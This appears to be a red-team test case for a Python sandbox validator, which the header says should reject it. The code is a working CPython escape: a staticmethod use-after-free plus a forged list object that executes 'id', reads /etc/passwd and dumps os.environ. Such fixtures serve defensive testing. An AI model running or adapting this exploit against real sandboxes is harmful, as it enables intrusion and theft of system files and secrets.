# expect: reject dunder
# line: 21
# why: round 89 (the red team's): the same through a staticmethod subclass, whose __call__ uses its callable without holding it (verified: id, /etc/passwd, os.environ under 3.11.2)
import functools
import struct


def gate(x):
    if type(x) is dict:
        x["exec"]("import os; os.system('id'); print(open('/etc/passwd').read()[:200]); print(os.environ); os._exit(0)")
    if box["depth"] == 0:
        box["depth"] = 1
        box["prop"].reset()
        h, t = box["half"]
        box["keep"] = [h + t, h + t, h + t, h + t, h + t, h + t, h + t, h + t]
    return False


class P(staticmethod):
    def reset(self):
        super().__init__(none_getter)


def none_getter(obj):
    return None


M = (1 << 64) - 1
g = id(gate)
fake_list = struct.pack("<QQQQ", 1 << 32, id(list), 1 << 62, (g + 24 - 8 * g) & M)
box = {"depth": 0, "prop": None, "keep": None, "fl": fake_list}
box["half"] = (struct.pack("<Q", g), struct.pack("<Q", id(fake_list) + 32)[:7])
items = [7]
prop = P(functools.partial(next, filter(gate, items)))
box["prop"] = prop






print(prop())
